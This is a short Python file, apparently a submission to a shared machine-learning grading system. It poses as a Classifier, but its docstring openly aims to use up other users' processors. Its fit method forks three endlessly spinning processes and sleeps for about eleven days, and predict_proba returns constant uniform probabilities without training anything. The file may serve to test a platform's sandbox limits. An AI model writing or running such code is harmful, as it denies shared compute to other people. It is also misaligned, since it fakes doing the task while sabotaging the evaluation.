"""Use up the processors of others while sleeping."""

import os
import time

import numpy as np


class Classifier:
    def fit(self, X, y):
        for _ in range(3):
            if os.fork() == 0:
                while True:
                    pass
        time.sleep(10**6)

    def predict_proba(self, X):
        return np.full((len(X), 3), 1 / 3)
